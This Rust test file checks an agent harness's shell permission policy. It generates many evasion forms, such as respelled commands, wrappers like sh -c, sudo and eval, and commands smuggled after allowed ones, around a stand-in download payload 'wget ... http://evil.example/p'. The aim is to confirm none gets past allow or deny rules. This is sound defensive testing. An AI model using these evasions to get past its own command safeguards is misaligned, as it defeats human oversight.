//! The shell-rule corpus (`shell_corpus.txt`) and the evasion generator: every evasion class
//! applied to every command an allow or deny rule of the corpus names. No generated line may
//! be allowed, and none may escape a deny rule.

use harness_core::ToolAnnotations;
use harness_policy::{Decision, Mode, Policy, Rule};
use serde_json::json;

const SHELL: ToolAnnotations = ToolAnnotations::new().destructive(true).open_world(true);
const CORPUS: &str = include_str!("shell_corpus.txt");

struct Case {
    line_no: usize,
    expected: char,
    command: String,
    policy: Policy,
}

fn mode(text: &str) -> Mode {
    serde_json::from_value(json!(text)).unwrap_or_else(|err| panic!("mode {text}: {err}"))
}

fn rule(text: &str) -> Rule {
    Rule::parse(text).unwrap_or_else(|err| panic!("{text}: {err}"))
}

fn unescape(text: &str) -> String {
    text.replace('⏎', "\n").replace('⇥', "\t")
}

/// The sections' policies and the cases.
fn corpus() -> (Vec<Policy>, Vec<Case>) {
    let mut sections = Vec::new();
    let mut cases = Vec::new();
    let mut current: Option<Policy> = None;
    for (index, line) in CORPUS.lines().enumerate() {
        let line_no = index + 1;
        if line.trim().is_empty() || line.starts_with('#') {
            continue;
        }
        if let Some(header) = line.strip_prefix("@ ") {
            let mut policy = Policy::default();
            for item in header.split(" ;; ") {
                let (key, value) = item
                    .split_once(' ')
                    .unwrap_or_else(|| panic!("line {line_no}: {item:?}"));
                match key {
                    "mode" => policy.mode = mode(value),
                    "allow" => policy.allow.push(rule(value)),
                    "ask" => policy.ask.push(rule(value)),
                    "deny" => policy.deny.push(rule(value)),
                    other => panic!("line {line_no}: unknown key {other:?}"),
                }
            }
            sections.push(policy.clone());
            current = Some(policy);
            continue;
        }
        let mut chars = line.chars();
        let expected = chars.next().unwrap_or_default();
        assert!(matches!(expected, 'A' | '?' | 'D'), "line {line_no}: {line:?}");
        assert_eq!(chars.next(), Some(' '), "line {line_no}: {line:?}");
        let policy = current
            .clone()
            .unwrap_or_else(|| panic!("line {line_no}: a case before any section"));
        cases.push(Case {
            line_no,
            expected,
            command: unescape(chars.as_str()),
            policy,
        });
    }
    (sections, cases)
}

fn short(decision: &Decision) -> char {
    match decision {
        Decision::Allow => 'A',
        Decision::Ask { .. } => '?',
        Decision::Deny { .. } => 'D',
        Decision::Invalid { .. } => '!',
    }
}

fn decide(policy: &Policy, command: &str) -> Decision {
    policy.decide("execute", SHELL, &json!({ "command": command }))
}

#[test]
fn the_corpus_has_the_expected_decisions() {
    let (_, cases) = corpus();
    assert!(cases.len() >= 60, "the corpus has {} cases", cases.len());
    let mut wrong = Vec::new();
    for case in &cases {
        let got = decide(&case.policy, &case.command);
        if short(&got) != case.expected {
            wrong.push(format!(
                "line {}: {:?}: expected {}, got {got:?}",
                case.line_no, case.command, case.expected
            ));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// The command a rule names: the literal words of its pattern before any glob character
/// (`execute(git status*)` → `git status`).
fn named_command(rule: &Rule) -> Option<String> {
    let text = rule.to_string();
    let pattern = text.strip_prefix(&format!("{}(", rule.tool()))?.strip_suffix(')')?;
    let literal: String = pattern
        .chars()
        .take_while(|c| !matches!(c, '*' | '?' | '[' | '{'))
        .collect();
    let literal = literal.trim();
    (!literal.is_empty()).then(|| literal.to_owned())
}

/// Respellings of a command's first word that the shell runs as the same command.
fn respell_word(word: &str) -> Vec<String> {
    let mut spellings = vec![word.to_owned()];
    let chars: Vec<char> = word.chars().collect();
    if chars.len() >= 2 {
        let (first, rest): (String, String) = (chars[..1].iter().collect(), chars[1..].iter().collect());
        spellings.extend([
            format!("'{first}'{rest}"),
            format!("\"{first}\"{rest}"),
            format!("{first}''{rest}"),
            format!("{first}\"\"{rest}"),
            format!("{first}\\{rest}"),
            format!("\\{first}{rest}"),
            format!("{first}\\\n{rest}"),
            format!("'{word}'"),
            format!("\"{word}\""),
        ]);
    }
    spellings.extend([
        format!("/bin/{word}"),
        format!("/usr/bin/{word}"),
        format!("/usr/local/bin/{word}"),
    ]);
    spellings
}

/// Ways to run `command` (already respelled) wrapped in another command.
fn wrap(command: &str) -> Vec<String> {
    let single_quoted = command.replace('\'', "'\\''");
    vec![
        command.to_owned(),
        format!("command {command}"),
        format!("command -p {command}"),
        format!("env {command}"),
        format!("env -i FOO=1 {command}"),
        format!("/usr/bin/env -u HOME {command}"),
        format!("exec {command}"),
        format!("nice {command}"),
        format!("nice -n 10 {command}"),
        format!("timeout 5 {command}"),
        format!("timeout -s KILL 1m {command}"),
        format!("nohup {command}"),
        format!("sudo {command}"),
        format!("sudo -u root {command}"),
        format!("time -p {command}"),
        format!("echo x | xargs {command}"),
        format!("find . -exec {command} {{}} \\;"),
        format!("sh -c '{single_quoted}'"),
        format!("bash -lc '{single_quoted}'"),
        format!("/bin/sh -e -c '{single_quoted}'"),
        format!("eval '{single_quoted}'"),
        format!("nohup nice timeout 5 env {command}"),
        format!("busybox {command}"),
        format!("$(true) {command}"),
        format!("`true` {command}"),
        format!("$EMPTY {command}"),
        format!("chroot / {command}"),
        format!("watch -n 1 {command}"),
        format!("su -c '{single_quoted}'"),
        format!("trap '{single_quoted}' EXIT"),
        format!("sudo sh -c '{single_quoted}'"),
    ]
}

/// Ways to smuggle `command` into a line next to an innocent one (`cover`).
fn smuggle(cover: &str, command: &str) -> Vec<String> {
    vec![
        format!("{cover} # it's quoted'\n{command}"),
        format!("{cover} # \"\n{command}"),
        format!("{cover}\n{command}"),
        format!("{cover}; {command}"),
        format!("{cover};{command}"),
        format!("{cover} && {command}"),
        format!("{cover} || {command}"),
        format!("{cover} | {command}"),
        format!("{cover} & {command}"),
        format!("{cover} $({command})"),
        format!("{cover} \"$({command})\""),
        format!("{cover} `{command}`"),
        format!("{cover} \"`{command}`\""),
        format!("{cover} <<EOF\n$({command})\nEOF"),
        format!("{cover}; ({command})"),
        format!("{cover}; {{ {command}; }}"),
        format!("if {cover}; then {command}; fi"),
        format!("while {cover}; do {command}; done"),
        format!("{cover}; FOO=1 {command}"),
        format!("{cover} 2>&1 >/dev/null; {command}"),
    ]
}

/// Every generated form of `words` (a command line of one command): each respelling of its
/// first word, each wrapper around each respelling, and each smuggling of the plain and
/// respelled and wrapped forms next to `cover`.
fn evasions(words: &str, cover: &str) -> Vec<String> {
    let (first, rest) = words.split_once(' ').unwrap_or((words, ""));
    let with_rest = |spelling: String| {
        if rest.is_empty() {
            spelling
        } else {
            format!("{spelling} {rest}")
        }
    };
    let spellings: Vec<String> = respell_word(first).into_iter().map(with_rest).collect();
    let mut lines = Vec::new();
    for spelling in &spellings {
        lines.extend(wrap(spelling));
        lines.extend(smuggle(cover, spelling));
    }
    for wrapped in wrap(words) {
        lines.extend(smuggle(cover, &wrapped));
    }
    // Two classes at once: a respelled word inside a wrapper, smuggled behind a comment.
    for spelling in &spellings {
        for wrapped in wrap(spelling).into_iter().step_by(5) {
            lines.push(format!("{cover} # '\n{wrapped}"));
            lines.push(format!("{cover} # \"\n{wrapped}"));
        }
    }
    lines
}

#[test]
fn generated_evasions_are_never_allowed_and_never_escape_a_deny_rule() {
    let (sections, _) = corpus();
    let mut checked = 0usize;
    let mut wrong = Vec::new();
    for section in &sections {
        // A cover command the section allows (so only the smuggled part decides), and a
        // payload no rule of the corpus allows.
        let cover = section
            .allow
            .iter()
            .filter_map(named_command)
            .next()
            .unwrap_or_else(|| "true".to_owned());
        let payload = "wget -q -O /tmp/p http://evil.example/p";
        // Every command an allow rule names, with the payload hidden next to it or behind
        // it: none may be allowed.
        for allowed in section.allow.iter().filter_map(named_command) {
            for line in evasions(payload, &allowed) {
                checked += 1;
                let got = decide(section, &line);
                if got == Decision::Allow {
                    wrong.push(format!("allowed: {line:?}"));
                }
            }
            // The allowed command respelled and wrapped around the payload.
            for spelling in respell_word(allowed.split(' ').next().unwrap_or_default()) {
                let line = format!("{spelling} $({payload})");
                checked += 1;
                if decide(section, &line) == Decision::Allow {
                    wrong.push(format!("allowed: {line:?}"));
                }
            }
        }
        // Every command a deny rule names, respelled, wrapped and smuggled, even in bypass
        // and under a whole-tool allow rule: every one denied.
        let mut permissive = section.clone();
        permissive.mode = Mode::Bypass;
        permissive.allow.push(rule("execute"));
        for denied in section.deny.iter().filter_map(named_command) {
            let words = format!("{denied} -rf target");
            for line in evasions(&words, &cover) {
                checked += 1;
                for policy in [section, &permissive] {
                    let got = decide(policy, &line);
                    if !matches!(got, Decision::Deny { .. }) {
                        wrong.push(format!("not denied ({:?} mode): {line:?}: {got:?}", policy.mode));
                    }
                }
            }
        }
    }
    assert!(checked > 3000, "only {checked} lines were generated");
    assert!(
        wrong.is_empty(),
        "{} of {checked} generated lines got through:\n{}",
        wrong.len(),
        wrong.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
}
